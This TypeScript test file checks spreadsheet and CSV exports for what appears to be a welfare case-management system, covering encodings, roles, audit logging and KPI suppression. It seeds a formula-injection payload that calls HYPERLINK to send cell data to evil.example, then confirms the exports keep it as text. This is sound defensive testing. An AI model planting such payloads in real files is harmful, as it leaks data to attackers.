/**
 * Exports (issue #9 "Paperwork in and out"): the case list, KPI tables, partner report counts and
 * the audit log as .xlsx and CSV. A file is read back as a person's spreadsheet would read it: the
 * .xlsx with exceljs, the CSV as UTF-8 (with its BOM) or Shift_JIS. Formula-like text stays text,
 * an analyst gets only what the KPI API gives, every export is audited, bad input changes nothing.
 */
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { uuidv7 } from 'uuidv7';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_EXPORT_ROWS } from '../server/export/table-export.js';
import type { Urgency } from '../server/schema-helpers.js';
import { createTestApp, type TestApp } from './helpers/app.js';
import { createTenant, type TestTenant } from './helpers/factories.js';

let t: TestApp;
let beta: TestTenant;
const HOUR = 3_600_000;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"開く")';
let n = 0;
let personId: string;

async function seedCase(tenant: TestTenant, urgency: Urgency, received: Date, hours: number | null, person: string | null = null) {
  await t.ctx.db
    .insertInto('cases')
    .values({
      tenant_id: tenant.id,
      id: uuidv7(),
      case_number: ++n,
      person_id: person,
      household_id: null,
      hub_id: tenant.hubId,
      assignee_id: null,
      status: hours === null ? 'open' : 'supporting',
      outcome: null,
      urgency,
      received_at: received,
      first_contact_due_at: new Date(received.getTime() + 24 * HOUR),
      first_contact_at: hours === null ? null : new Date(received.getTime() + hours * HOUR),
      first_contact_id: null,
      escalated_at: null,
      opened_at: received,
      closed_at: null,
      created_by: tenant.accounts.hub_staff.id,
      updated_at: received,
    })
    .execute();
}

async function readXlsx(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

/** The rows of a sheet as arrays of cell values (1-based columns dropped to 0-based). */
function valuesOf(ws: ExcelJS.Worksheet): unknown[][] {
  const out: unknown[][] = [];
  ws.eachRow((row) => out.push((row.values as unknown[]).slice(1)));
  return out;
}

/** A moment after every earlier audit row (the clock moves only by hand). */
function mark(): Date {
  t.clock.advance(60_000);
  return t.clock.now();
}

async function exportsOf(since: Date, tenantId = t.tenant.id) {
  return t.ctx.db
    .selectFrom('audit_log')
    .selectAll()
    .where('tenant_id', '=', tenantId)
    .where('action', '=', 'export')
    .where('at', '>=', since)
    .execute();
}

beforeAll(async () => {
  t = await createTestApp({ now: new Date('2026-12-10T03:00:00Z') });
  beta = await createTenant(t.ctx.db, 'beta', t.clock.now());
  const staff = await t.as('hub_staff');
  const person = await staff.post('/api/v1/people', { name: FORMULA });
  expect(person.statusCode).toBe(201);
  personId = person.json().id;
  // October: high ×5 and one lone emergency case; November: high ×6 — one names the formula person.
  for (let i = 0; i < 5; i++) await seedCase(t.tenant, 'high', new Date(Date.UTC(2026, 9, 2 + i * 4, 1)), 2 + i);
  await seedCase(t.tenant, 'emergency', new Date(Date.UTC(2026, 9, 15, 3)), 7);
  for (let i = 0; i < 6; i++) await seedCase(t.tenant, 'high', new Date(Date.UTC(2026, 10, 2 + i * 4, 1)), null, i === 0 ? personId : null);
  await seedCase(beta, 'normal', new Date(Date.UTC(2026, 10, 5, 1)), null);
});
afterAll(async () => t?.close());

describe('case list export', () => {
  it('.xlsx: the open cases with Japanese headers; a formula-like name stays text; audited with the people named', async () => {
    const since = mark();
    const staff = await t.as('hub_staff');
    const res = await staff.get('/api/v1/cases/export?format=xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="cases-2026-12-10\.xlsx"/);
    expect(res.headers['cache-control']).toBe('no-store');
    const ws = await readXlsx(res.rawPayload);
    const rows = valuesOf(ws);
    expect(rows[0]).toEqual(expect.arrayContaining(['ケース番号', '状態', '緊急度', '対象者', '受付日時', '初回接触期限']));
    expect(rows).toHaveLength(1 + 12); // this tenant's twelve cases not closed, none of beta's
    const nameCol = (rows[0] as string[]).indexOf('対象者');
    const cell = ws.getRow(rows.findIndex((r) => String(r[nameCol]).includes('HYPERLINK')) + 1).getCell(nameCol + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(`'${FORMULA}`);
    const audits = await exportsOf(since);
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ entity_type: 'case', account_id: t.tenant.accounts.hub_staff.id });
    expect(audits[0]!.detail).toMatchObject({ format: 'xlsx', rows: 12, people: [personId] });
  });

  it('keeps the list filters (urgency, status, name); the audit row keeps no search text', async () => {
    const staff = await t.as('hub_staff');
    const csv = (await staff.get('/api/v1/cases/export?format=csv&status=supporting&urgency=emergency')).rawPayload;
    const lines = csv.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('支援中,緊急');
    const since = mark();
    const byName = (await staff.get(`/api/v1/cases/export?format=csv&q=${encodeURIComponent('HYPERLINK')}`)).rawPayload;
    expect(byName.subarray(3).toString('utf8').trim().split('\r\n')).toHaveLength(2);
    const [row] = await exportsOf(since);
    expect(row!.detail).toMatchObject({ filters: { q_length: 9 }, rows: 1 });
    expect(JSON.stringify(row!.detail)).not.toContain('HYPERLINK');
  });

  it('CSV: UTF-8 with a BOM by default, Shift_JIS on request, 和暦 columns on request', async () => {
    const staff = await t.as('hub_staff');
    const utf = await staff.get('/api/v1/cases/export?format=csv');
    expect(utf.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...utf.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(utf.rawPayload.toString('utf8')).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    const sjis = await staff.get('/api/v1/cases/export?format=csv&encoding=shift_jis&calendar=japanese');
    expect(sjis.headers['content-type']).toBe('text/csv; charset=Shift_JIS');
    expect(sjis.rawPayload[0]).not.toBe(0xef);
    const text = iconv.decode(sjis.rawPayload, 'Shift_JIS');
    expect(text.split('\r\n')[0]).toContain('ケース番号,状態,緊急度,対象者,担当者,受付日時,受付日時（和暦）');
    expect(text).toContain('令和8年11月2日');
  });

  it('refuses bad input with a clear error and records nothing', async () => {
    const since = mark();
    const staff = await t.as('hub_staff');
    for (const q of ['format=pdf', 'encoding=latin1', 'calendar=maya', 'urgency=soon', 'limit=5']) {
      const res = await staff.get(`/api/v1/cases/export?${q}`, { 'accept-language': 'ja' });
      expect(res.statusCode, q).toBe(400);
      expect(res.json().error.code).toBe('invalid_input');
    }
    expect(await exportsOf(since)).toHaveLength(0);
  });

  it('refuses a list longer than one file may hold, with the limit in Japanese, and records nothing', async () => {
    // A municipality of its own, filled with MAX_EXPORT_ROWS + 1 open cases in one statement.
    const big = await createTenant(t.ctx.db, 'big', t.clock.now());
    await sql`
      INSERT INTO cases (tenant_id, id, case_number, person_id, household_id, hub_id, assignee_id, status, outcome, urgency,
        received_at, first_contact_due_at, first_contact_at, first_contact_id, escalated_at, opened_at, closed_at, created_by, updated_at)
      SELECT ${big.id}, gen_random_uuid(), g, NULL, NULL, ${big.hubId}, NULL, 'open', NULL, 'normal',
        ${t.clock.now()}, ${new Date(t.clock.now().getTime() + 24 * HOUR)}, NULL, NULL, NULL, ${t.clock.now()}, NULL, ${big.accounts.hub_staff.id}, ${t.clock.now()}
      FROM generate_series(1, ${MAX_EXPORT_ROWS + 1}) AS g`.execute(t.ctx.db);
    const since = mark();
    const res = await (await t.as('hub_staff', big)).get('/api/v1/cases/export?format=csv', { 'accept-language': 'ja' });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('export_too_large');
    expect(res.json().error.message).toContain(`${MAX_EXPORT_ROWS}行まで`);
    expect(await exportsOf(since, big.id)).toHaveLength(0);
  });

  it('refuses an audit log longer than one file may hold, and records nothing', async () => {
    const big = await createTenant(t.ctx.db, 'bigaudit', t.clock.now());
    const at = new Date(t.clock.now().getTime() - HOUR);
    await sql`
      INSERT INTO audit_log (tenant_id, id, at, account_id, role, action, entity_type, entity_id, ip, user_agent, detail)
      SELECT ${big.id}, gen_random_uuid(), ${at}, ${big.accounts.admin.id}, 'admin', 'login', 'session', NULL, NULL, NULL, '{}'
      FROM generate_series(1, ${MAX_EXPORT_ROWS + 1})`.execute(t.ctx.db);
    const since = mark();
    const res = await (await t.as('admin', big)).get('/api/v1/audit/export?format=csv&action=login', { 'accept-language': 'ja' });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('export_too_large');
    expect(await exportsOf(since, big.id)).toHaveLength(0);
  });

  it('is for roles that read cases only', async () => {
    for (const role of ['analyst', 'admin', 'partner', 'coordinator'] as const) {
      expect((await (await t.as(role)).get('/api/v1/cases/export')).statusCode, role).toBe(403);
    }
    expect((await t.anonymous().get('/api/v1/cases/export')).statusCode).toBe(401);
  });
});

describe('KPI export', () => {
  it('hub staff get the exact period, with the lone emergency case', async () => {
    const staff = await t.as('hub_staff');
    const res = await staff.get('/api/v1/kpis/export?format=csv&from=2026-10-01&to=2026-10-31');
    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0]).toBe('区分,項目,目標,ケース数,初回接触済み,中央値（時間）,平均（時間）,目標時間内の割合,未接触,期限超過,備考');
    expect(lines[1]).toMatch(/^全体,全体,平均24時間以内,6,6,/);
    expect(lines.find((l) => l.startsWith('緊急度別,緊急'))).toMatch(/^緊急度別,緊急,1時間,1,1,7,7,/);
  });

  it('an analyst gets what the KPI API gives: the small cell is empty and marked, the totals leave it out', async () => {
    const since = mark();
    const analyst = await t.as('analyst');
    const api = (await analyst.get('/api/v1/kpis/first-contact?from=2026-10-01&to=2026-10-31')).json();
    const ws = await readXlsx((await analyst.get('/api/v1/kpis/export?from=2026-10-01&to=2026-10-31')).rawPayload);
    const rows = valuesOf(ws);
    expect(rows[0]).toEqual(['覚知から初回接触までの時間']);
    expect(rows[1]).toEqual(['期間: 2026/10/01〜2026/10/31']);
    const header = rows.findIndex((r) => r[0] === '区分');
    const body = rows.slice(header + 1);
    const total = body.find((r) => r[0] === '全体')!;
    expect(total[3]).toBe(api.cases);
    expect(total[3]).toBe(5);
    const emergency = body.find((r) => r[1] === '緊急')!;
    expect(api.by_urgency.emergency.suppressed).toBe(true);
    expect(emergency.slice(3, 10).every((v) => v === undefined || v === '')).toBe(true);
    expect(emergency[10]).toBe('秘匿（5件未満）');
    expect(JSON.stringify(rows)).not.toContain(',7,'); // the lone case's 7 hours appear nowhere
    const audits = await exportsOf(since);
    expect(audits[0]).toMatchObject({ entity_type: 'kpi', role: 'analyst' });
  });

  it('safety checks have their own table; bad input is refused', async () => {
    const lead = await t.as('hub_lead');
    const res = await lead.get('/api/v1/kpis/export?kind=safety_checks&format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(3).toString('utf8').split('\r\n')[0]).toContain('アラート件数');
    expect((await lead.get('/api/v1/kpis/export?kind=everything')).statusCode).toBe(400);
    expect((await lead.get('/api/v1/kpis/export?from=2026-12-01&to=2026-11-01')).json().error.code).toBe('invalid_period');
    expect((await (await t.as('partner')).get('/api/v1/kpis/export')).statusCode).toBe(403);
  });
});

describe('partner report counts export', () => {
  it('one row per partner and a total, for those who read partners; audited', async () => {
    const since = mark();
    const coordinator = await t.as('coordinator');
    const res = await coordinator.get('/api/v1/partners/report-stats/export?format=csv');
    expect(res.statusCode).toBe(200);
    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0]).toMatch(/^協力事業者,業種,状態,通報件数,有効な通報/);
    expect(lines.some((l) => l.startsWith('alpha 新聞店,新聞販売,'))).toBe(true);
    expect(lines.at(-1)).toMatch(/^合計,,,/);
    expect(lines.join()).not.toContain('beta');
    expect((await exportsOf(since))[0]).toMatchObject({ entity_type: 'partner' });
    expect((await (await t.as('hub_staff')).get('/api/v1/partners/report-stats/export')).statusCode).toBe(403);
    expect((await coordinator.get('/api/v1/partners/report-stats/export?format=docx')).statusCode).toBe(400);
  });
});
